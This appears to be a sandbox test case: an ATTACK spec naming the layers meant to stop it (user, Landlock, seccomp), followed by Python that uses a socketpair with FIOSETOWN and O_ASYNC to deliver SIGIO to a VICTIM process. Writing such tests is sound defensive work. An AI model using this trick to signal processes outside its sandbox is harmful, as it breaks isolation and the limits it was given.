ATTACK = {
    "success": "another process is signalled",
    "stopped by": ["user", "landlock", "seccomp"],
}
import ctypes, fcntl, os, struct
a, b = __import__("socket").socketpair()
fcntl.ioctl(a.fileno(), 0x8901, struct.pack("=i", VICTIM))  # FIOSETOWN
fcntl.fcntl(a.fileno(), fcntl.F_SETFL, os.O_ASYNC)
b.send(b"x")
